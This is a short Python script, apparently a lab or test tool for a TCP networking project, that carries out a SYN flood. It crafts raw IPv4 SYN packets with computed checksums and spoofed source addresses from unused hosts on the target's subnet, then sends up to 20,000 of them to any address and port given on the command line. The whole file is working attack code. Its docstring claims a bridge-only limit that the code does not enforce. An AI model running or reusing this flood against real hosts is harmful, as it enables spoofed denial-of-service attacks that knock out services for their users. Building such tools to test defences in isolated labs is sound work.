# Copyright (c) 2026, the linuxnet.tcp authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A small SYN flood: COUNT packets, at most 20,000, to ADDRESS and PORT, from addresses of its own network that nobody
has. It cannot leave the bridge that the fleet is on.
"""

from __future__ import annotations

import socket
import struct
import sys

MOST = 20000
NOBODY = range(100, 200)


def checksum(data):
    """The Internet checksum (RFC 1071) of an even number of bytes."""
    total = sum(struct.unpack("!{0}H".format(len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, source_port, target, port):
    """An IPv4 packet with one SYN; the kernel fills in length and checksum of its head."""
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    segment = struct.pack("!HHIIBBHHH", source_port, port, source_port * 7919, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo_head = addresses + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo_head + segment)) + segment[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses + segment


def main(target, port, count):
    """Send."""
    network = target.rpartition(".")[0]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(min(count, MOST)):
            source = "{0}.{1}".format(network, NOBODY[number % len(NOBODY)])
            raw.sendto(syn(source, 1024 + number // len(NOBODY), target, port), (target, 0))


main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
